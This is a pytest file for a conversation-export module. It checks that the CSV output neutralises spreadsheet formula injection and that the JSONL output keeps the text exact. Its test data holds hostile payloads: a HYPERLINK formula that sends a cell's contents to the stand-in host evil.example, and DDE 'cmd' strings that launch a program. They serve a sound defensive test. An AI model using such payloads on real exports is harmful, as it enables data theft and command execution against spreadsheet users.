"""CSV export against formula injection: hostile summaries, data-collection values and
evaluation results are made inert; numbers stay numbers; JSONL keeps the text as it was."""

from __future__ import annotations

import csv
import io
import json

import pytest

from parley.conversations import export, service
from parley.conversations.repository import ConversationFilter
from parley.conversations.schemas import Criterion, DataValue, Turn
from parley.db.engine import session_scope
from tests.conversations.conftest import Sessions
from tests.conversations.records import elevenlabs_record

HOSTILE_SUMMARY = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE_TURN = "=cmd|' /C calc'!A0"
DATA = {
    "callback_number": "+44•••1234",  # a masked phone number is text
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tabbed": "\t=1+1",
    "returned": "\r=1+1",
    "amount_text": "-3.5",  # looks like a number, is text: prefixed like any text
    "amount": -3.5,  # a number: written as one
    "count": 7,
    "plus_number": 44,
    "benign": "meeting at 3pm - maybe",
    "list": ["=1+1"],  # JSON text starts with `[`: nothing to guard
    "=field": "x",  # a hostile field name lands in the header as `data.=field`: inert
}


async def _export(sessions: Sessions, fmt: export.Format) -> str:
    chunks = [chunk async for chunk, _n in export.stream(sessions, ConversationFilter(), fmt)]
    return "".join(chunks)


@pytest.fixture
async def hostile(sessions: Sessions) -> None:
    record = elevenlabs_record(1).model_copy(
        update={
            "summary": HOSTILE_SUMMARY,
            "termination_reason": "+1 hung up",
            "data_collection": {k: DataValue(value=v) for k, v in DATA.items()},
            "evaluation": {"tone": Criterion(result="=1+1")},
            "turns": [Turn(role="user", text=HOSTILE_TURN)],
        }
    )
    async with session_scope(sessions) as session:
        await service.store(session, record, caller_key=b"k")


@pytest.mark.usefixtures("hostile")
async def test_csv_cells_that_would_run_are_prefixed(sessions: Sessions) -> None:
    text = await _export(sessions, "csv")
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["summary"] == "'" + HOSTILE_SUMMARY
    assert row["termination_reason"] == "'+1 hung up"
    assert row["eval.tone"] == "'=1+1"
    assert row["data.callback_number"] == "'+44•••1234"
    assert row["data.note"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["data.minus"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["data.tabbed"] == "'\t=1+1"
    assert row["data.returned"] == "'\r=1+1"
    assert row["data.amount_text"] == "'-3.5"
    # Numbers stay numbers (a spreadsheet sums them); a number cannot carry a formula.
    assert row["data.amount"] == "-3.5"
    assert row["data.count"] == "7"
    assert row["data.plus_number"] == "44"
    assert row["duration_s"] == str(float(row["duration_s"]))
    assert row["data.benign"] == "meeting at 3pm - maybe"
    assert row["data.list"] == '["=1+1"]'
    assert row["data.=field"] == "x"
    # No cell anywhere, header included, starts with a formula trigger unless it is a number.
    for line in csv.reader(io.StringIO(text, newline="")):
        for cell in line:
            if cell.startswith(export.FORMULA_TRIGGERS):
                float(cell)


@pytest.mark.usefixtures("hostile")
async def test_jsonl_keeps_the_text_exactly(sessions: Sessions) -> None:
    (line,) = (await _export(sessions, "jsonl")).splitlines()
    item = json.loads(line)
    assert item["summary"] == HOSTILE_SUMMARY
    assert item["turns"][0]["text"] == HOSTILE_TURN
    assert item["data_collection"]["callback_number"]["value"] == "+44•••1234"
    assert item["data_collection"]["amount"]["value"] == -3.5


def test_guard_is_a_prefix_only_where_needed() -> None:
    assert export.guard("=1") == "'=1"
    assert export.guard("'=1") == "'=1"  # already inert: left as it is
    assert export.guard("plain") == "plain"
    assert export.guard("") == ""
